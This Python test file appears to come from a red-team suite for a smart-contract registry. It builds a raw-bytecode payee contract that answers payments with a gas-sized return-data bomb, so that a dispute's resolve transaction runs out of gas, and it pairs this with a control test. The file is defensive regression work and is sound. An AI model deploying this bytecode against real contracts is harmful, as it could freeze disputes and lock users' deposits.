"""Red team, round 2 (issue 11): a payee that answers a payment with a return-data bomb.

The registries pay by push and keep a refused payment for ``withdrawOwed`` (``_send``: ``(bool
ok,) = to.call{value: amount}("")``; when ``ok`` is false the amount is kept), so that no
receiver "can block the call that pays it" (``test_a_sybil_refusing_ether_cannot_block_its_esps_
equivocation``). A receiver can do worse than refuse: accept the Ether and return a huge
return-data buffer. Solidity copies the return data of a low-level call into memory even when
the code ignores it, so the *caller* pays for memory as large as the payee made: a payee that
sizes its buffer from the gas it was given (its 63/64) leaves the caller's remaining 1/64 far
short, whatever gas limit the transaction carries. The call never returns ``ok == false``: the
whole transaction runs out of gas.

The payee here is a contract of raw EVM bytecode (no Solidity source: this task changes none):
with calldata, it forwards ``calldata[32:]`` with its value to the address in ``calldata[:32]``
(so it can lock a fee and contest, as a Sybil contract would); with none (a payment), it returns
``0.9 x sqrt(512 x gas)`` words of zeros, whose memory costs the caller about 0.8 x the gas the
payee had.

Runs on the default chain backend (``world``).
"""

from __future__ import annotations

from typing import Any

from eth_utils import to_checksum_address
from web3.contract import Contract

from ledger import new_secret
from ledger.clients.registry import DisputeState
from tests.conftest import World
from tests.contracts.attack_kit import HOUR, locked_terms, register_image
from tests.contracts.helpers import FEE, NEAR_FP, details, register_esp

NEWTON_STEPS = 16  # integer square root from 2**18 down: enough for any gas below 2**36


def _runtime(*, bomb_on: bool = True) -> bytes:
    """The payee's runtime code (see the module docstring); without ``bomb_on`` a payment just
    stops (accepted, nothing returned): the control."""
    newton = bytes.fromhex("8082040160011c") * NEWTON_STEPS  # x = (x + n / x) >> 1
    bomb = (
        bytes.fromhex("5b")  # JUMPDEST
        + bytes.fromhex("5a61020002")  # n = gas * 512
        + bytes.fromhex("62040000")  # x = 2**18
        + newton
        + bytes.fromhex("600902600a9004")  # w = x * 9 / 10
        + bytes.fromhex("60051b")  # size = w * 32
        + bytes.fromhex("6000f3")  # return(0, size)
    )
    if not bomb_on:
        bomb = bytes.fromhex("5b00")  # JUMPDEST STOP
    forward = (
        bytes.fromhex("5b")  # JUMPDEST
        + bytes.fromhex("60203603")  # len = calldatasize - 32
        + bytes.fromhex("806020600037")  # calldatacopy(0, 32, len)
        + bytes.fromhex("60006000826000346000355af1")  # call(...)
        + bytes.fromhex("60ff57")  # jumpi(ok, success): "ff" patched below
        + bytes.fromhex("3d600060003e3d6000fd")  # revert(returndata)
        + bytes.fromhex("5b00")  # ok: JUMPDEST STOP
    )
    head_len = 4  # CALLDATASIZE PUSH1 fwd JUMPI
    bomb_at, fwd_at = head_len, head_len + len(bomb)
    ok_at = fwd_at + len(forward) - 2
    forward = forward.replace(bytes.fromhex("60ff57"), bytes([0x60, ok_at, 0x57]))
    code = bytes([0x36, 0x60, fwd_at, 0x57]) + bomb + forward
    assert code[bomb_at] == 0x5B and code[fwd_at] == 0x5B and code[ok_at] == 0x5B
    assert len(code) < 256
    return code


def _deploy_payee(world: World, *, bomb_on: bool = True) -> str:
    runtime = _runtime(bomb_on=bomb_on)
    init = bytes([0x60, len(runtime), 0x60, 12, 0x60, 0, 0x39, 0x60, len(runtime), 0x60, 0, 0xF3])
    receipt = _raw(world, world.attacker, None, init + runtime, gas=300_000)
    _require(receipt["status"] == 1, "the payee's deployment reverted")
    return str(receipt["contractAddress"])


def _require(condition: bool, what: str) -> None:
    """A precondition of the attack (RuntimeError: not the safe behaviour's AssertionError, so a
    broken set-up cannot pass for the strict xfail)."""
    if not condition:
        raise RuntimeError(what)


def _raw(world: World, account, to: str | None, data: bytes, *, value: int = 0, gas: int) -> Any:
    """Signs and sends a transaction with an explicit gas limit (no estimate); its receipt."""
    w3 = world.chain.w3
    base = int(w3.eth.get_block("latest").get("baseFeePerGas", 0))
    tx: dict[str, Any] = {
        "value": value,
        "gas": gas,
        "data": data,
        "chainId": world.chain.chain_id,
        "nonce": w3.eth.get_transaction_count(account.address, "pending"),
        "maxPriorityFeePerGas": 10**9,
        "maxFeePerGas": 2 * base + 10**9,
    }
    if to is not None:
        tx["to"] = to_checksum_address(to)
    signed = account.sign_transaction(tx)
    return w3.eth.wait_for_transaction_receipt(w3.eth.send_raw_transaction(signed.raw_transaction))


def _through(world: World, payee: str, target: Contract, fn: str, *args, value: int = 0) -> Any:
    """The payee calls ``target.fn(*args)`` with ``value`` (sent by the attacker's account)."""
    inner = bytes.fromhex(target.encode_abi(fn, args=list(args))[2:])
    data = bytes(12) + bytes.fromhex(target.address[2:]) + inner
    receipt = _raw(world, world.attacker, payee, data, value=value, gas=2_000_000)
    _require(receipt["status"] == 1, f"{fn} through the payee reverted")
    return receipt


def _contested_equivocation(world: World, *, bomb_on: bool) -> tuple[int, int, bytes]:
    """The ESP attests the customer's image and, to its Sybil (the payee), an edited copy under
    a later lock; the customer challenges (an equivocation), the Sybil contests. Returns (token,
    copy, the calldata of ``resolve``)."""
    register_esp(world)
    esp = world.esp
    deposit = world.params.challenge_deposit
    payee = _deploy_payee(world, bomb_on=bomb_on)
    htlc, registry = world.deployment.htlc, world.deployment.registry
    token = register_image(world, world.producer, world.producer.address)
    # The Sybil (the payee) pays the ESP for the copy's generation; the ESP claims the fee.
    preimage, hashlock = new_secret()
    timelock = world.chain.timestamp() + HOUR
    receipt = _through(world, payee, htlc, "lockEther", esp.address, hashlock, timelock, value=FEE)
    lock = locked_terms(world, receipt)
    world.htlc(esp).withdraw(lock, preimage)
    copy = register_image(
        world, world.attacker, payee, fp=NEAR_FP, detail=details()["near"], lock=lock
    )
    customer = world.registry(world.producer)
    customer.challenge(token, copy)
    _require(customer.dispute(token, copy).equivocal, "not an equivocation")
    _through(world, payee, registry, "contest", token, copy, value=deposit)
    _require(customer.dispute(token, copy).contester.lower() == payee.lower(), "not contested")

    resolver = world.registry(world.deployer)
    fn = registry.functions.resolve(
        token,
        copy,
        resolver.registered(token).proof.as_tuple(),
        resolver.registered(copy).proof.as_tuple(),
        resolver.registered(token).detail,
        resolver.registered(copy).detail,
    )
    data = bytes.fromhex(fn._encode_transaction_data()[2:])
    return token, copy, data


def test_a_return_data_bomb_cannot_block_its_esps_equivocation(world):
    """The equivocation of ``test_a_sybil_refusing_ether_cannot_block_its_esps_equivocation``,
    with a payee that accepts the Ether and bombs instead of refusing it. The ESP attests its
    customer's image and, to its Sybil (the payee contract), an edited copy under a later lock;
    the customer challenges (one ESP: an equivocation) to have the ESP slashed; the Sybil
    contests first. ``resolve`` reaches ``_equivocated``, which slashes the ESP and pays both
    deposits back: the Sybil's payment bombs and the transaction runs out of gas, using all of
    5 M, 10 M or 29 M gas alike (measured below; a resolve costs about 2.2 M, the detail rule:
    ``registry_resolve`` 2,163,820 in the gas snapshot). The dispute stays Contested for ever (no
    ``finalize`` for a contested Registry dispute): the ESP keeps its 0.05 ETH slash and the
    customer's 0.01 ETH deposit is locked, for the Sybil's 0.01 ETH deposit. The same bomb
    blocks every other push to a party's chosen address: Rejected and Void in ``resolve`` and
    ``finalize``, ``settle``'s reversal, and the batch contracts' ``_send``.

    Fixed (a strict xfail before): the three forums' ``_send`` makes the push with an assembly
    ``call`` that copies no return data (``retSize`` 0, no ``returndatacopy``), keeping a
    refused payment for ``withdrawOwed``; the bomb's memory is then the payee's own cost."""
    token, copy, data = _contested_equivocation(world, bomb_on=True)
    outcomes = {}
    for gas in (5_000_000, 10_000_000, 29_000_000):  # resolve needs about 2.2 M
        receipt = _raw(world, world.deployer, world.deployment.registry.address, data, gas=gas)
        outcomes[gas] = (receipt["status"], receipt["gasUsed"])
        if receipt["status"] == 1:
            break

    registry = world.registry(world.deployer)
    assert registry.dispute(token, copy).state is DisputeState.EQUIVOCATED, outcomes
    assert world.esps(world.deployer).challenges_lost(world.esp.address) == 1


def test_the_same_contester_without_the_bomb_is_resolved_within_five_million_gas(world):
    """The control: the same payee with its bomb off (it accepts the refund and returns
    nothing). The same resolve, sent with 5 M gas, decides the equivocation and slashes the ESP,
    so the runs out of gas above are the bomb's."""
    token, copy, data = _contested_equivocation(world, bomb_on=False)
    receipt = _raw(world, world.deployer, world.deployment.registry.address, data, gas=5_000_000)
    assert receipt["status"] == 1 and receipt["gasUsed"] < 5_000_000
    registry = world.registry(world.deployer)
    assert registry.dispute(token, copy).state is DisputeState.EQUIVOCATED
    assert world.esps(world.deployer).challenges_lost(world.esp.address) == 1
